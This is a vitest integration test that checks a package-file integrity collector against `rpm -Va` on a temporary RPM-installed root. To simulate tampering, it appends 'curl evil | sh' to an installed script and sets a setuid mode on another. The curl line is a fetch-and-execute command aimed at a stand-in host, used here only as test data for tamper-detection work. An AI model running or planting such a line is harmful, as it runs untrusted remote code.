import { execFileSync, spawnSync } from 'node:child_process';
import { appendFileSync, chmodSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { packageFiles } from '../../src/collectors/software/package-files.js';
import { collectOnce, tempDir } from '../helpers.js';
import { hasProgram } from '../support/programs.js';

/**
 * Package-file integrity against the tools that define it: on a root with rpmbuild packages
 * installed by `rpm --root`, a binary, a library and a config file are changed, a mode is
 * changed and a file deleted; the result must equal `rpm -Va --root`.
 */

/** Where rpm keeps its database on the hosts we read (Debian's rpm defaults to ~/.rpmdb); relative to --root. */
const RPMDB = ['--dbpath', '/var/lib/rpm', '--define', '_db_backend sqlite'];

/** `rpm -Va` lines: "S.5....T.  c /etc/x" or "missing   c /etc/x"; flags to our kinds. */
function rpmVerify(root: string): string[] {
  const r = spawnSync('rpm', ['-Va', '--root', root, ...RPMDB, '--nodeps', '--noscripts'], { encoding: 'utf8' });
  const out = new Set<string>();
  for (const line of r.stdout.split('\n')) {
    const m = /^(missing|[.?A-Za-z0-9]{9})\s+(?:([cdglr])\s+)?(\/.*)$/.exec(line);
    if (!m) continue;
    const [, flags, attr, file] = m;
    const config = attr === 'c';
    if (flags === 'missing') out.add(`${file} missing config=${config}`);
    else {
      if (/[S5]/.test(flags!)) out.add(`${file} modified config=${config}`);
      if (flags![1] === 'M') out.add(`${file} mode_changed config=${config}`);
    }
  }
  return [...out].sort();
}

const ours = (rows: Record<string, unknown>[]) => rows.map((r) => `${r.path} ${r.kind} config=${r.config}`).sort();

const rpmTools = ['rpm', 'rpmbuild'].every((t) => hasProgram(t));

describe.skipIf(!rpmTools)('package_files equals rpm -Va on a root with rpm-installed packages', () => {
  const work = tempDir('hb-pkgfiles-rpm-');
  const root = path.join(work, 'root');

  beforeAll(() => {
    const top = path.join(work, 'build');
    mkdirSync(path.join(top, 'SPECS'), { recursive: true });
    const spec = [
      'Name: hb-tool',
      'Version: 1.2',
      'Release: 3',
      'Summary: package-file integrity test package',
      'License: MIT',
      '%description',
      'A binary, a library, a config file and data.',
      '%install',
      'mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/lib64 %{buildroot}/etc %{buildroot}/usr/share/hb-tool',
      'printf "#!/bin/sh\\necho tool\\n" > %{buildroot}/usr/bin/hb-tool && chmod 755 %{buildroot}/usr/bin/hb-tool',
      'printf "#!/bin/sh\\necho helper\\n" > %{buildroot}/usr/bin/hb-helper && chmod 755 %{buildroot}/usr/bin/hb-helper',
      'head -c 4096 /dev/zero > %{buildroot}/usr/lib64/libhbtool.so.1',
      'echo "setting = 1" > %{buildroot}/etc/hb-tool.conf',
      'for i in 1 2 3; do echo "data $i" > %{buildroot}/usr/share/hb-tool/data-$i; done',
      'ln -s hb-tool %{buildroot}/usr/bin/hb-tool-link',
      '%files',
      '/usr/bin/hb-tool',
      '/usr/bin/hb-helper',
      '/usr/bin/hb-tool-link',
      '/usr/lib64/libhbtool.so.1',
      '%config(noreplace) /etc/hb-tool.conf',
      '/usr/share/hb-tool',
      '',
    ].join('\n');
    writeFileSync(path.join(top, 'SPECS', 'hb-tool.spec'), spec);
    execFileSync('rpmbuild', ['--define', `_topdir ${top}`, '-bb', path.join(top, 'SPECS', 'hb-tool.spec')], { stdio: 'pipe' });
    const rpms = readdirSync(path.join(top, 'RPMS'), { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.rpm'));
    mkdirSync(root, { recursive: true });
    execFileSync('rpm', ['--root', root, ...RPMDB, '-i', '--nodeps', '--noscripts', ...rpms.map((f) => path.join(top, 'RPMS', f))], { stdio: 'pipe' });
  }, 120_000);

  afterAll(() => rmSync(work, { recursive: true, force: true }));

  it('an untouched root verifies clean, as rpm -Va says', async () => {
    expect(rpmVerify(root)).toEqual([]);
    const { state, tables } = await collectOnce(packageFiles, root, { options: { io_bytes_per_second: 0 } });
    expect(state.success, state.lastError ?? '').toBe(true);
    expect(tables.package_file_changes).toEqual([]);
    expect(tables.package_integrity_summary).toEqual([expect.objectContaining({ manager: 'rpm', packages: 1, modified: 0, missing: 0 })]);
  });

  it('a tampered binary, library, config file and mode and a deleted file equal rpm -Va', async () => {
    appendFileSync(path.join(root, 'usr/bin/hb-tool'), 'curl evil | sh\n');
    // Same size, other content: only the digest tells.
    writeFileSync(path.join(root, 'usr/lib64/libhbtool.so.1'), Buffer.alloc(4096, 1));
    writeFileSync(path.join(root, 'etc/hb-tool.conf'), 'setting = 2\n');
    chmodSync(path.join(root, 'usr/bin/hb-helper'), 0o4755);
    rmSync(path.join(root, 'usr/share/hb-tool/data-2'));
    const expected = rpmVerify(root);
    expect(expected.length).toBe(5);
    const { tables } = await collectOnce(packageFiles, root, { options: { io_bytes_per_second: 0 } });
    expect(ours(tables.package_file_changes!)).toEqual(expected);
    const binaries = tables.package_file_changes!.filter((r) => r.binary === true).map((r) => r.path);
    expect(binaries.sort()).toEqual(['/usr/bin/hb-helper', '/usr/bin/hb-tool', '/usr/lib64/libhbtool.so.1']);
  });
});
